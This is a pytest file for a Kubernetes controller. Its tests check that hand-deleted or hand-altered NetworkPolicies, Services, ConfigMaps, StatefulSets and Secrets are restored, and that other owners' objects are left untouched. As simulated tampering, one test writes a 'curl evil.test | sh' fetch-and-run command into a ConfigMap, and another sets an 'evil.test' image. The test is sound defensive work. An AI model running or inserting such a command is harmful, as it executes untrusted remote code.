"""What is deleted or changed by hand is put right while its pod runs, and nothing else is; on the double of the API."""

from collections.abc import AsyncIterator, Callable
from copy import deepcopy
from dataclasses import replace
from itertools import pairwise
from typing import Any

import pytest
import trio
import trio.testing

from controller.runtimes import Launch, RuntimeFailure, Stage
from controller.runtimes.kubernetes import client, mending, runtime
from controller.runtimes.kubernetes.runtime import KubernetesRuntime
from controller.runtimes.kubernetes.settings import ClusterSettings
from tests.controller.runtimes.homes import PATIENCE, SECRETS, Living
from tests.controller.runtimes.kubernetes.answering import Fault
from tests.controller.runtimes.kubernetes.apiserver import ApiServer
from tests.controller.runtimes.kubernetes.cluster import SETTINGS, cluster_life

JSON = dict[str, Any]
NAME = "pg-p1"
WATCHED = ("networkpolicies", "services", "configmaps")


def a_launch(generation: int = 1, **more: Any) -> Launch:
    return Launch("p1", 1, "my-p1", "postgres", generation, secrets=SECRETS, **more)


@pytest.fixture
async def api(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[ApiServer]:
    monkeypatch.setattr(client, "FIRST_PAUSE", 0.001)
    monkeypatch.setattr(mending, "FIRST_PAUSE", 0.01)
    async with ApiServer().serving() as api:
        yield api


@pytest.fixture
async def living(api: ApiServer, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Living]:
    """A running pod, which the controller knows, and whose turn does not come."""
    monkeypatch.setattr(mending, "ROUND", 3600.0)
    async with cluster_life(api) as living:
        living.runtime.know(lambda key: a_launch() if key == "p1" else None)
        await living.runtime.launch(a_launch())
        yield living


def parts(api: ApiServer) -> dict[tuple[str, str], JSON]:
    """Give all that a pod has, without what the server adds."""
    found: dict[tuple[str, str], JSON] = {}
    for (plural, name), thing in api.objects.items():
        owners = [owner["name"] for owner in thing["metadata"].get("ownerReferences", [])]
        found[plural, name] = {**thing, "metadata": {"labels": thing["metadata"].get("labels"), "owners": owners}}
    return deepcopy(found)


async def until(shown: Callable[[], bool]) -> None:
    with trio.fail_after(PATIENCE):
        while not shown():
            await trio.lowlevel.checkpoint()


async def quiet() -> None:
    """Wait until nobody has anything to do for a while."""
    for _ in range(3):
        await trio.testing.wait_all_tasks_blocked(0.02)


def changes(api: ApiServer, since: int = 0) -> list[str]:
    """Give the kinds of what was asked to be changed."""
    asked = [request for request in api.requests[since:] if not request.startswith("GET")]
    return [request.split("/namespaces/podgate/")[1].split("/")[0] for request in asked]


@pytest.mark.parametrize("plural", WATCHED)
async def test_what_is_deleted_by_hand_comes_back_at_once(api: ApiServer, living: Living, plural: str) -> None:
    before = parts(api)
    api.drop(plural, NAME)
    await until(lambda: (plural, NAME) in api.objects)
    await quiet()
    assert parts(api) == before


@pytest.mark.parametrize(
    ("plural", "by_hand"),
    [
        ("networkpolicies", {"spec": {"podSelector": {}, "policyTypes": ["Ingress"], "ingress": [{}]}}),
        ("services", {"spec": {"selector": {"app": "another"}}}),
        ("configmaps", {"data": {"postgres-start.sh": "curl evil.test | sh"}}),
        ("networkpolicies", {"metadata": {"labels": {"podgate.internal/instance": "another"}}}),
    ],
)
async def test_what_is_changed_by_hand_is_put_right_at_once(
    api: ApiServer, living: Living, plural: str, by_hand: JSON, caplog: pytest.LogCaptureFixture
) -> None:
    before = parts(api)
    found = deepcopy(api.get(plural, NAME))
    for key, value in by_hand.items():
        found[key] |= value
    api.put(plural, found)
    assert parts(api) != before
    await until(lambda: parts(api) == before)
    await quiet()
    kind = {"networkpolicies": "NetworkPolicy", "services": "Service", "configmaps": "ConfigMap"}[plural]
    assert f"pod p1: put right what somebody had changed: {kind}" in caplog.text


async def test_what_another_added_costs_one_apply_that_changes_nothing(api: ApiServer, living: Living) -> None:
    found, since = deepcopy(api.get("services", NAME)), len(api.requests)
    found["metadata"]["annotations"] = {"cloud.test/balancer": "lb-7"}
    version = api.put("services", found)["metadata"]["resourceVersion"]
    await until(lambda: "services" in changes(api, since))
    await quiet()
    assert changes(api, since) == ["services"]
    assert api.get("services", NAME)["metadata"]["resourceVersion"] == version


async def test_our_own_changes_are_no_drift(api: ApiServer, living: Living) -> None:
    since = len(api.requests)
    await living.runtime.stop("p1", 1.0)
    api.drop("pods", f"{NAME}-0")
    await living.until_exited("p1")
    living.runtime.know(lambda _key: a_launch(2, env={"COLOUR": "red"}))
    await living.runtime.launch(a_launch(2, env={"COLOUR": "red"}))
    await quiet()
    once = ["services", "secrets", "networkpolicies", "configmaps", "statefulsets"]
    assert changes(api, since) == ["pods", "statefulsets", *once]


async def test_a_stateful_set_changed_by_hand_is_put_right_and_its_pod_goes_on(api: ApiServer, living: Living) -> None:
    before, pod = parts(api), api.get("pods", f"{NAME}-0")["metadata"]["uid"]
    found = deepcopy(api.get("statefulsets", NAME))
    found["spec"]["replicas"] = 2
    found["spec"]["template"]["spec"]["containers"][0]["image"] = "evil.test/postgres"
    api.put("statefulsets", found)
    await until(lambda: parts(api) == before)
    assert api.get("pods", f"{NAME}-0")["metadata"]["uid"] == pod
    assert (await living.runtime.observe())["p1"].generation == 1


async def test_a_secret_that_is_gone_is_there_again_when_a_new_kubernetes_pod_wants_it(
    api: ApiServer, living: Living
) -> None:
    before = parts(api)
    api.drop("secrets", NAME)
    await quiet()
    assert ("secrets", NAME) not in api.objects  # Secrets are not watched
    api.drop("pods", f"{NAME}-0")
    await until(lambda: ("secrets", NAME) in api.objects)
    assert parts(api)["secrets", NAME] == before["secrets", NAME]


async def test_each_pod_s_secret_has_its_turn(api: ApiServer, living: Living, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(mending, "ROUND", 0.01)
    monkeypatch.setattr(mending, "MOST_CALLS", 100.0)
    before = parts(api)
    async with cluster_life(api) as other:  # whose rounds are so short
        other.runtime.know(lambda _key: a_launch())
        await until(lambda: changes(api)[-4:] == ["secrets"] * 4)
        since, versions = len(api.requests), {place: thing["metadata"] for place, thing in api.objects.items()}
        await until(lambda: changes(api, since) == ["secrets"] * 3)  # nothing else, and nothing is changed by it
        assert {place: thing["metadata"] for place, thing in api.objects.items()} == versions
        secret = deepcopy(api.get("secrets", NAME))
        secret["data"]["secret.owner"] = "ZXZpbA=="
        api.put("secrets", secret)
        await until(lambda: parts(api) == before)
        api.drop("secrets", NAME)
        await until(lambda: parts(api) == before)


async def test_what_was_done_while_the_controller_was_away_is_put_right(api: ApiServer) -> None:
    async with cluster_life(api) as living:
        await living.runtime.launch(a_launch())
    before = parts(api)
    api.drop("networkpolicies", NAME)
    api.drop("secrets", NAME)
    service = deepcopy(api.get("services", NAME))
    service["spec"]["selector"] = {}
    api.put("services", service)
    found = deepcopy(api.get("statefulsets", NAME))
    found["spec"]["replicas"] = 3
    api.put("statefulsets", found)
    since = len(api.requests)
    async with cluster_life(api) as living:
        living.runtime.know(lambda _key: a_launch())
        await until(lambda: parts(api) == before)
        await quiet()
        assert changes(api, since)[0] == "networkpolicies"  # what is missing, and what closes a pod, first
        assert sorted(changes(api, since)) == ["configmaps", "networkpolicies", "secrets", "services", "statefulsets"]


async def test_during_a_stop_a_pod_is_closed_and_not_started_again(api: ApiServer, living: Living) -> None:
    await living.runtime.stop("p1", 30.0)
    before = parts(api)
    for plural in WATCHED:
        api.drop(plural, NAME)
    await until(lambda: all((plural, NAME) in api.objects for plural in WATCHED))
    await quiet()
    assert parts(api) == before
    assert api.get("statefulsets", NAME)["spec"]["replicas"] == 0


async def test_a_stop_that_comes_between_look_and_apply_is_not_undone(api: ApiServer, living: Living) -> None:
    """The StatefulSet is applied at the version that was read, and at no other."""
    found = deepcopy(api.get("statefulsets", NAME))
    found["spec"]["replicas"] = 2
    api.faults.append(Fault(503, method="PATCH", part="/statefulsets/"))  # it is asked again a moment later
    api.put("statefulsets", found)
    await until(lambda: not api.faults)
    stopped = deepcopy(api.get("statefulsets", NAME))
    stopped["spec"]["replicas"] = 0  # by the controller that leads now
    api.put("statefulsets", stopped)
    since = len(api.requests)
    await until(lambda: "statefulsets" in changes(api, since))
    await quiet()
    assert api.get("statefulsets", NAME)["spec"]["replicas"] == 0


async def test_of_a_pod_that_is_being_deleted_nothing_is_made_again(api: ApiServer, living: Living) -> None:
    await living.runtime.stop("p1", 1.0)
    api.drop("pods", f"{NAME}-0")
    await living.until_exited("p1")
    since = len(api.requests)
    await living.runtime.remove("p1")
    await living.until_gone("p1")
    await quiet()
    assert api.objects == {}
    assert changes(api, since) == ["persistentvolumeclaims", "statefulsets"]


async def test_while_another_generation_is_wanted_the_policy_alone_is_put_back(api: ApiServer, living: Living) -> None:
    """What the controller knows by now is meant for the next start; an open pod is worse than a port too few."""
    living.runtime.know(lambda _key: a_launch(2, env={"COLOUR": "red"}))
    for plural in WATCHED:
        api.drop(plural, NAME)
    await until(lambda: ("networkpolicies", NAME) in api.objects)
    await quiet()
    assert not {("services", NAME), ("configmaps", NAME)} & api.objects.keys()


async def test_pods_that_the_controller_does_not_know_are_left_alone(api: ApiServer, living: Living) -> None:
    living.runtime.know(lambda _key: None)
    api.drop("networkpolicies", NAME)
    await quiet()
    assert ("networkpolicies", NAME) not in api.objects


async def test_who_leads_no_more_mends_nothing(
    api: ApiServer, living: Living, caplog: pytest.LogCaptureFixture
) -> None:
    asked = 0

    async def followed() -> None:
        nonlocal asked
        asked += 1
        raise RuntimeFailure("this controller does not lead any more")

    living.runtime.know(lambda _key: a_launch(confirm=followed))
    since = len(api.requests)
    api.drop("networkpolicies", NAME)
    await until(lambda: asked > 0)
    await quiet()
    assert changes(api, since) == []
    assert caplog.text.count("this controller does not lead any more") == 1


@pytest.mark.parametrize("status", [409, 429, 500, 503, 403])
async def test_a_cluster_that_refuses_is_asked_again(
    api: ApiServer, living: Living, status: int, caplog: pytest.LogCaptureFixture
) -> None:
    before = parts(api)
    refusals = client.MOST_ATTEMPTS + 1  # all of one call, and more
    fault = Fault(status, b'{"message": "not now"}', {"Retry-After": "0"}, "PATCH", "/networkpolicies/")
    api.faults += [replace(fault) for _ in range(refusals)]
    api.drop("networkpolicies", NAME)
    await until(lambda: parts(api) == before)
    assert api.faults == []
    assert "what was changed by hand could not be put right" in caplog.text


async def test_whoever_undoes_it_over_and_over_is_followed_ever_later(
    api: ApiServer, living: Living, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(mending, "FIRST_PAUSE", 0.1)
    times = []
    for _ in range(4):
        api.drop("networkpolicies", NAME)
        await until(lambda: ("networkpolicies", NAME) in api.objects)
        times.append(trio.current_time())
    pauses = [after - before for before, after in pairwise(times)]
    assert [pause >= at_least for pause, at_least in zip(pauses, (0.1, 0.2, 0.4), strict=True)] == [True] * 3


# ---- what is another's


@pytest.mark.parametrize("plural", [*WATCHED, "secrets"])
async def test_a_pod_whose_name_another_has_is_refused_and_that_is_not_touched(api: ApiServer, plural: str) -> None:
    theirs = {"metadata": {"name": NAME, "labels": {"app": "theirs"}}, "spec": {}, "data": {"theirs": "yes"}}
    api.put(plural, theirs | ({"type": "Opaque"} if plural == "secrets" else {}))
    before = deepcopy(api.get(plural, NAME))
    async with cluster_life(api) as living:
        with pytest.raises(RuntimeFailure, match=f"{NAME} in namespace podgate is another's"):
            await living.runtime.launch(a_launch())
    assert api.get(plural, NAME) == before
    assert ("pods", f"{NAME}-0") not in api.objects


async def test_what_another_put_in_place_of_ours_is_not_touched_and_told_once(
    api: ApiServer, living: Living, caplog: pytest.LogCaptureFixture
) -> None:
    theirs: JSON = {"metadata": {"name": NAME}, "spec": {"podSelector": {}}}
    api.faults.append(Fault(403, method="PATCH", part="/networkpolicies/"))  # they are faster
    api.drop("networkpolicies", NAME)
    await until(lambda: not api.faults)
    api.put("networkpolicies", theirs)
    await until(lambda: "NetworkPolicy pg-p1 in namespace podgate is another's" in caplog.text)
    found = deepcopy(api.get("networkpolicies", NAME))
    found["spec"]["policyTypes"] = ["Ingress"]
    api.put("networkpolicies", found)
    await quiet()
    assert api.get("networkpolicies", NAME)["spec"] == {"podSelector": {}, "policyTypes": ["Ingress"]}
    assert caplog.text.count("is another's") == 1


async def test_another_controllers_objects_are_not_touched(api: ApiServer) -> None:
    """Two share a namespace: each mends its own."""
    async with cluster_life(api) as living, cluster_life(api, replace(SETTINGS, instance="two")) as other:
        await living.runtime.launch(a_launch())
        for life in (living, other):
            life.runtime.know(lambda _key: a_launch())
        since = len(api.requests)
        api.drop("networkpolicies", NAME)
        await until(lambda: ("networkpolicies", NAME) in api.objects)
        await quiet()
        assert changes(api, since) == ["networkpolicies"]
        assert api.get("networkpolicies", NAME)["metadata"]["labels"]["podgate.internal/instance"] == "podgate"


# ---- what is left


async def leave_parts(api: ApiServer) -> None:
    """Leave of a pod what its StatefulSet owned, as kubectl delete statefulset --cascade=orphan does, and less."""
    async with cluster_life(api) as living:
        await living.runtime.launch(a_launch())
    for place in (("statefulsets", NAME), ("pods", f"{NAME}-0"), ("persistentvolumeclaims", f"data-{NAME}-0")):
        del api.objects[place]
    for thing in api.objects.values():
        del thing["metadata"]["ownerReferences"]


async def test_what_nobody_owns_any_more_is_seen_and_goes_with_its_passwords(api: ApiServer) -> None:
    await leave_parts(api)
    api.put("secrets", {"metadata": {"name": "pg-p2"}, "data": {}})
    async with cluster_life(api) as living:
        seen = (await living.runtime.observe())["p1"]
        assert seen.message == "only its Service and ConfigMap and NetworkPolicy is left"
        assert seen.stage is Stage.EXITED
        await living.runtime.remove("p1")
        await living.until_gone("p1")
    assert sorted(api.objects) == [("secrets", "pg-p2")]


async def test_what_nobody_owns_any_more_is_owned_by_the_next_start(api: ApiServer) -> None:
    await leave_parts(api)
    async with cluster_life(api) as living:
        await living.runtime.launch(a_launch())
        owner = api.get("statefulsets", NAME)["metadata"]["uid"]
        for plural in (*WATCHED, "secrets"):
            assert [each["uid"] for each in api.get(plural, NAME)["metadata"]["ownerReferences"]] == [owner]


async def test_another_s_secret_does_not_go_with_what_is_left(api: ApiServer) -> None:
    await leave_parts(api)
    theirs = {"metadata": {"name": NAME}, "type": "Opaque", "data": {"theirs": "yes"}}
    api.objects["secrets", NAME] = api.put("secrets", theirs)
    before = deepcopy(theirs)
    async with cluster_life(api) as living:
        await living.runtime.remove("p1")
        await living.until_gone("p1")
    assert api.objects == {("secrets", NAME): before}


# ---- what may go wrong


async def test_without_the_right_to_watch_pods_are_started_and_it_is_told(
    api: ApiServer, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(runtime, "PARTS_LIMIT", 0.2)
    api.faults += [Fault(403, b'{"message": "networkpolicies is forbidden"}', part="/networkpolicies?")] * 50
    async with cluster_life(api) as living:
        await living.runtime.launch(a_launch())
        assert ("pods", f"{NAME}-0") in api.objects
    told = "what is deleted or changed by hand is not seen: the cluster does not let us: networkpolicies is forbidden"
    assert told in caplog.text


async def test_a_pod_that_would_not_be_allowed_today_is_kept_closed(api: ApiServer) -> None:
    async with cluster_life(api) as living:
        await living.runtime.launch(a_launch())
    before = parts(api)
    api.drop("networkpolicies", NAME)
    found = deepcopy(api.get("statefulsets", NAME))
    found["spec"]["template"]["metadata"]["annotations"]["by"] = "hand"
    api.put("statefulsets", found)
    strict = ClusterSettings(require_digest=True)
    async with cluster_life(api, strict) as living:
        with pytest.raises(RuntimeFailure, match="name its content"):
            await living.runtime.launch(a_launch(2))
        living.runtime.know(lambda _key: a_launch())
        await until(lambda: ("networkpolicies", NAME) in api.objects)
        await quiet()
    assert parts(api)["networkpolicies", NAME] == before["networkpolicies", NAME]
    assert api.get("statefulsets", NAME)["spec"]["template"]["metadata"]["annotations"]["by"] == "hand"


async def test_a_list_that_is_begun_anew_shows_what_went_meanwhile(api: ApiServer, living: Living) -> None:
    before = parts(api)
    api.faults.append(Fault(503, part="/networkpolicies?watch", headers={"Retry-After": "0"}))
    assert isinstance(living.runtime, KubernetesRuntime)
    await api.end_streams()
    await until(lambda: not api.faults)
    api.drop("networkpolicies", NAME)
    api.forget()
    await until(lambda: parts(api) == before)


async def test_an_object_that_makes_no_sense_is_one_pod_s_trouble(
    api: ApiServer, living: Living, caplog: pytest.LogCaptureFixture
) -> None:
    found = deepcopy(api.get("statefulsets", NAME))
    found["spec"] |= {"volumeClaimTemplates": [], "replicas": 2}  # deleted, and made anew by hand
    api.put("statefulsets", found)
    await until(lambda: "IndexError" in caplog.text)
    api.drop("networkpolicies", NAME)
    await until(lambda: ("networkpolicies", NAME) in api.objects)
